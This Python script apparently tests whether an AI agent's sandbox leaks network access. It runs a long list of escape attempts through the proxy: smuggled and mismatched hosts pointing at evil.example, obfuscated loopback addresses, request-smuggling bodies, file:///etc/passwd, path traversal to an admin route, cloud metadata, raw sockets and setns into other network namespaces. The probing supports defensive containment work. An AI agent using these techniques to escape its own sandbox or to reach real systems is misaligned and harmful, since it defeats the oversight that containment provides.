"""Tries every way out of a sandbox whose agent has the network of its model.

Each way is tried and named, whatever comes of it: what really got out is seen
outside, where somebody listens. The first few are no ways out but what must
work, and each says what it was answered.
"""

import json
import os
import socket
import ssl
import struct
import sys

targets = json.load(open(sys.argv[1]))
DOOR = ("127.0.0.1", 4788)
HERE, SIX, UDP, PROXY = targets["tcp"], targets["tcp6"], targets["udp"], targets["proxy"]
tried = open("tried.txt", "w")


def reach(address, family=socket.AF_INET, kind=socket.SOCK_STREAM, says=b"out"):
    with socket.socket(family, kind) as way:
        way.settimeout(3)
        way.connect(address)
        way.send(says)


def door(*pieces):
    """Says something at the door, and answers what comes back."""
    with socket.create_connection(DOOR, 5) as way:
        return said(way, *pieces)


def said(way, *pieces):
    way.settimeout(5)
    for piece in pieces:
        way.sendall(piece if isinstance(piece, bytes) else piece.encode())
    got = b""
    try:
        while piece := way.recv(65536):
            got += piece
    except (TimeoutError, OSError):
        pass
    return got.decode("latin-1")


def connect(host, named=None):
    """Asks for a tunnel, and speaks through it if there is one."""
    with socket.create_connection(DOOR, 5) as way:
        way.settimeout(5)
        host = host if isinstance(host, bytes) else host.encode()
        way.sendall(b"CONNECT " + host + b" HTTP/1.1\r\nHost: " + (named or host) + b"\r\n\r\n")
        answer = way.recv(65536).decode("latin-1")
        if " 200 " in answer.split("\r\n")[0]:
            way.sendall(b"out")
        return answer


def tunnel(host, *pieces, name=None):
    """Speaks inside a tunnel to a host that may be reached."""
    with socket.create_connection(DOOR, 5) as way:
        way.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
        answer = way.recv(65536).decode("latin-1")
        if " 200 " not in answer.split("\r\n")[0]:
            return answer
        context = ssl.create_default_context()
        context.check_hostname = name is None
        with context.wrap_socket(way, server_hostname=name or host) as inner:
            return said(inner, *pieces)


def request(method, path="/x", host="packages.example", more="", body=""):
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{more}\r\n{body}"


def asks(method, **rest):
    return lambda: tunnel("packages.example", request(method, **rest))


def connects(host):
    return lambda: connect(host)


def raw(kind):
    return lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, kind)


def enter(path):
    libc = __import__("ctypes").CDLL(None, use_errno=True)
    if libc.setns(os.open(path, os.O_RDONLY), 0x40000000) != 0:
        raise OSError("refused")
    reach(("127.0.0.1", HERE))


def dns(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        way.settimeout(1)
        question = b"\4evil\7example\0" + struct.pack(">HH", 1, 1)
        way.sendto(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + question, (server, 53))
        way.recv(512)


MUST_WORK = {
    "reads from a registry": lambda: tunnel("packages.example", request("GET", "/ok")),
    "writes to what was named": lambda: tunnel(
        "listed.example", request("POST", "/ok", "listed.example", "Content-Length: 2\r\n", "hi")
    ),
    "asks its model": lambda: door(
        "POST /anthropic/llm/v1/messages HTTP/1.1\r\nHost: 127.0.0.1:4788\r\nConnection: close\r\n"
        f"x-api-key: {os.environ['ANTHROPIC_API_KEY']}\r\nContent-Length: 2\r\n\r\nhi"
    ),
}

WAYS = {
    "tcp to loopback": lambda: reach(("127.0.0.1", HERE)),
    "tcp to the newer loopback": lambda: reach(("::1", SIX), socket.AF_INET6),
    "tcp to the loopback mapped": lambda: reach(("::ffff:127.0.0.1", HERE), socket.AF_INET6),
    "tcp to nowhere in particular": lambda: reach(("0.0.0.0", HERE)),
    "tcp to the machine's address": lambda: reach((targets["address"], HERE)),
    "tcp to the person's proxy": lambda: reach(
        ("127.0.0.1", PROXY), says=b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n"
    ),
    "tcp to a far address": lambda: reach(("192.0.2.1", 443)),
    "udp to loopback": lambda: reach(("127.0.0.1", UDP), kind=socket.SOCK_DGRAM),
    "udp to a far address": lambda: reach(("192.0.2.1", 443), kind=socket.SOCK_DGRAM),
    "the resolver": lambda: socket.getaddrinfo("evil.example", 443),
    "dns by hand": lambda: dns("192.0.2.53"),
    "dns of a container": lambda: dns("127.0.0.11"),
    "the keys of a cloud": lambda: reach(("169.254.169.254", 80)),
    "icmp": raw(socket.IPPROTO_ICMP),
    "raw tcp": raw(socket.IPPROTO_TCP),
    "packets": lambda: socket.socket(17, socket.SOCK_RAW, 3),
    "vsock": lambda: socket.socket(40, socket.SOCK_STREAM),
    "bluetooth": lambda: socket.socket(31, socket.SOCK_STREAM),
    "an abstract socket": lambda: reach("\0" + targets["abstract"], socket.AF_UNIX),
    "a socket by its path": lambda: reach(targets["path"], socket.AF_UNIX),
    "the first process's network": lambda: enter("/proc/1/ns/net"),
    "the network of any process": lambda: [enter(f"/proc/{n}/ns/net") for n in os.listdir("/proc") if n.isdigit()],
    "connect to a stranger": connects("evil.example:443"),
    "connect to loopback": connects(f"127.0.0.1:{HERE}"),
    "connect to localhost": connects(f"localhost:{HERE}"),
    "connect to the newer loopback": connects(f"[::1]:{SIX}"),
    "connect to the loopback mapped": connects(f"[::ffff:127.0.0.1]:{HERE}"),
    "connect to a decimal address": connects(f"2130706433:{HERE}"),
    "connect to a hexadecimal address": connects(f"0x7f.0.0.1:{HERE}"),
    "connect to a short address": connects(f"127.1:{HERE}"),
    "connect to an octal address": connects(f"0177.0.0.1:{HERE}"),
    "connect to the person's proxy": connects(f"127.0.0.1:{PROXY}"),
    "connect to the door itself": connects("127.0.0.1:4788"),
    "connect to another port": connects("packages.example:22"),
    "connect to the port in the clear": connects("packages.example:80"),
    "connect to a longer name": connects("packages.example.evil.example:443"),
    "connect to a name below": connects("x.packages.example:443"),
    "connect to a dotted name": connects("packages.example.:443"),
    "connect to a name with a zero": connects(b"evil.example\0.packages.example:443"),
    "connect to a name with a user": connects("packages.example@evil.example:443"),
    "connect to a name with a hash": connects("evil.example#packages.example:443"),
    "connect to a name with a percent": connects("evil.example%2f.packages.example:443"),
    "connect to two names": connects("evil.example:443 packages.example:443"),
    "connect to a name that looks alike": connects("p\u0430ckages.example:443"),
    "connect with another host header": lambda: connect("evil.example:443", b"packages.example:443"),
    "another host inside": lambda: tunnel("packages.example", request("GET", host="evil.example")),
    "a whole address of its own inside": asks("GET", path="https://packages.example:444/"),
    "two hosts inside": asks("GET", more="Host: evil.example\r\n"),
    "a whole address inside": asks("GET", path="https://evil.example/"),
    "a connect inside": asks("CONNECT", path="evil.example:443", host="evil.example:443"),
    "another name in the greeting": lambda: tunnel("packages.example", request("GET", host="evil.example"), name="evil.example"),
    "a second request behind the first": lambda: tunnel(
        "packages.example", "GET / HTTP/1.1\r\nHost: packages.example\r\n\r\n", request("POST", host="evil.example")
    ),
    "post": asks("POST", more="Content-Length: 2\r\n", body="hi"),
    "put": asks("PUT", more="Content-Length: 2\r\n", body="hi"),
    "patch": asks("PATCH", more="Content-Length: 2\r\n", body="hi"),
    "delete": asks("DELETE"),
    "options": asks("OPTIONS"),
    "trace": asks("TRACE"),
    "a word of its own": asks("PUBLISH"),
    "get in small letters": asks("get"),
    "get that sends": asks("GET", more="Content-Length: 2\r\n", body="hi"),
    "get that sends in pieces": asks("GET", more="Transfer-Encoding: chunked\r\n", body="2\r\nhi\r\n0\r\n\r\n"),
    "get with two lengths": asks("GET", more="Content-Length: 0\r\nContent-Length: 2\r\n", body="hi"),
    "get with a length and pieces": asks(
        "GET",
        more="Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
        body="0\r\n\r\nPOST /x HTTP/1.1\r\nHost: packages.example\r\n\r\n",
    ),
    "get with a folded header": asks("GET", more="X-A: b\r\n Content-Length: 2\r\n", body="hi"),
    "get that wants another protocol": asks("GET", more="Connection: Upgrade\r\nUpgrade: websocket\r\n"),
    "a redirect": asks("GET", path="/redirect"),
    "loopback in the clear": lambda: door(request("GET", f"http://127.0.0.1:{HERE}/", f"127.0.0.1:{HERE}")),
    "localhost in the clear": lambda: door(request("GET", f"http://localhost:{HERE}/", f"localhost:{HERE}")),
    "a stranger in the clear": lambda: door(request("GET", "http://evil.example/", "evil.example")),
    "a registry in the clear": lambda: door(request("GET", "http://packages.example/", "packages.example")),
    "a stranger with a user": lambda: door(request("GET", "http://packages.example@evil.example/", "evil.example")),
    "encrypted, without a tunnel": lambda: door(request("GET", "https://evil.example/", "evil.example")),
    "files through the door": lambda: door(request("GET", "file:///etc/passwd", "")),
    "loopback by the host header": lambda: door(request("GET", "/", f"127.0.0.1:{HERE}")),
    "a stranger behind two slashes": lambda: door(request("GET", "//evil.example/", "127.0.0.1:4788")),
    "a stranger behind the model": lambda: door(request("GET", "/anthropic@evil.example/", "127.0.0.1:4788")),
    "beside the model": lambda: door(request("GET", "/anthropic/admin", "127.0.0.1:4788")),
    "up from the model": lambda: door(request("GET", "/anthropic/llm/../admin", "127.0.0.1:4788")),
    "up from the model, in code": lambda: door(request("GET", "/anthropic/llm/%2e%2e/admin", "127.0.0.1:4788")),
    "the model, traced": lambda: door(
        request("TRACE", "/anthropic/llm/v1/x", "127.0.0.1:4788", f"x-api-key: {os.environ['ANTHROPIC_API_KEY']}\r\n")
    ),
    "the model with another key": lambda: door(
        request("POST", "/anthropic/llm/v1/files", "127.0.0.1:4788", "x-api-key: sk-of-somebody\r\nContent-Length: 2\r\n", "hi")
    ),
    "the model with two keys": lambda: door(
        request(
            "POST",
            "/anthropic/llm/v1/files",
            "127.0.0.1:4788",
            f"x-api-key: {os.environ['ANTHROPIC_API_KEY']}\r\nAuthorization: Bearer sk-of-somebody\r\nContent-Length: 2\r\n",
            "hi",
        )
    ),
    "a route that is not there": lambda: door(request("GET", "/evil/", "127.0.0.1:4788")),
    "the older protocol": lambda: door("GET http://evil.example/\r\n\r\n"),
    "the newer protocol": lambda: door(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 9),
    "socks": lambda: door(b"\5\1\0", b"\5\1\0\3\14evil.example\1\273"),
    "what is no request": lambda: door(os.urandom(2000)),
}



def note(word, name, way):
    try:
        came = str(way() or "nothing").split("\n")[0].strip()
    except (OSError, ValueError, UnicodeError) as error:
        came = type(error).__name__
    print(word, name, "|", "".join(c if c.isprintable() else "?" for c in came)[:80], file=tried, flush=True)


for name, way in MUST_WORK.items():
    note("works", name, way)
for name, way in WAYS.items():
    note("tried", name, way)
